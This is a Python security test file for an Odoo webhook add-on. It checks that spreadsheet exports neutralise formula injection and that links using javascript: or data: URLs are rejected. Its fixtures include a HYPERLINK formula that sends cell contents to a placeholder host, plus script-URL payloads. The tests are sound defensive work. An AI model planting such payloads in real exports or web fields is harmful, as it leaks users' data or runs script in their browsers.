"""Texts of strangers, where a spreadsheet or a browser would run them."""

import csv
import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import new_test_user, tagged

from .common import WEBHOOK_ADMINISTRATOR, InboundWebhookHttpCase

FORMULA = '=HYPERLINK("https://x.example/?"&A1)'
RUNS = ("javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>x</b>")


@tagged("post_install", "-at_install", "security")
class TestStrangersTexts(InboundWebhookHttpCase):
    def setUp(self):
        super().setUp()
        new_test_user(
            self.env,
            "exporter",
            f"{WEBHOOK_ADMINISTRATOR},base.group_allow_export",
        )

    def export(self, kind, model, records, names, groups=()):
        self.authenticate("exporter", "exporter")
        data = {
            "model": model,
            "fields": [{"name": name, "label": name, "type": "char"} for name in names],
            "ids": records.ids,
            "domain": [],
            "groupby": list(groups),
            "import_compat": False,
            "context": {},
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(data),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(answer.status_code, 200, answer.text[:500])
        return answer.content

    def test_exports_of_the_log_compute_nothing(self):
        handler = self.make_handler(
            parameters=["title", {"name": "n", "type": "integer"}],
            mappings=[("name", "title")],
        )
        for title in (FORMULA, "@SUM(1)", "\tx", "+1", "plain"):
            self.post_json(handler, {"title": title}, query=f"?={title[1:]}")
        handler.parameter_ids[0].sample_value = FORMULA
        calls = self.calls(handler)
        for call, text in zip(
            calls, (FORMULA, "@SUM(1)", "-1", "\n=1", " =1"), strict=True
        ):
            call.error_message = text
        names = ["error_message", "query_string"]
        rows = list(
            csv.reader(
                io.StringIO(self.export("csv", calls._name, calls, names).decode())
            )
        )
        self.assertEqual(len(rows), 6)
        for row in rows[1:]:
            self.assertTrue(row[0].startswith("'"), row)
            self.assertFalse(row[0].startswith("''"), row)
        for model, records, columns in (
            (calls._name, calls, names),
            (handler._name, handler, ["name", "call_ids/error_message"]),
            ("inbound.webhook.parameter", handler.parameter_ids, ["sample_value"]),
        ):
            with self.subTest(model):
                content = self.export("xlsx", model, records, columns)
                sheet = load_workbook(io.BytesIO(content)).active
                kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
                self.assertNotIn("f", kinds)
                texts = [str(cell.value) for row in sheet.iter_rows() for cell in row]
                self.assertIn(f"'{FORMULA}", texts)

    def test_titles_of_groups_compute_nothing(self):
        handler = self.make_lead_handler(name="=1+1")
        for content_type in (FORMULA, "@SUM(1)", "text/plain"):
            headers = {"Content-Type": content_type}
            self.send(handler, b"{}", headers=headers)
        calls = self.calls(handler)
        groups = ["handler_id", "content_type"]
        content = self.export("xlsx", calls._name, calls, ["status"], groups)
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertNotIn("f", {cell.data_type for cell in cells})
        titles = {str(cell.value).strip() for cell in cells}
        self.assertLessEqual(
            {"'=1+1 (3)", f"'{FORMULA} (1)", "'@SUM(1) (1)", "text/plain (1)"}, titles
        )

    def test_no_link_of_a_record_runs_code(self):
        for model, parameter_type in (("crm.lead", "text"), ("res.partner", "text")):
            handler = self.make_handler(
                model,
                parameters=[{"name": "site", "type": parameter_type}],
                mappings=[{"field": "name", "constant": "x"}, ("website", "site")],
            )
            for text in RUNS:
                with self.subTest(text, model=model):
                    answer = self.post_json(handler, {"site": text})
                    self.assertEqual(answer.status_code, 422, answer.text)
                    self.assertFalse(self.last_call(handler).res_id)
            answer = self.post_json(handler, {"site": "x.example"})
            self.assertEqual(answer.json()["operation"], "created")
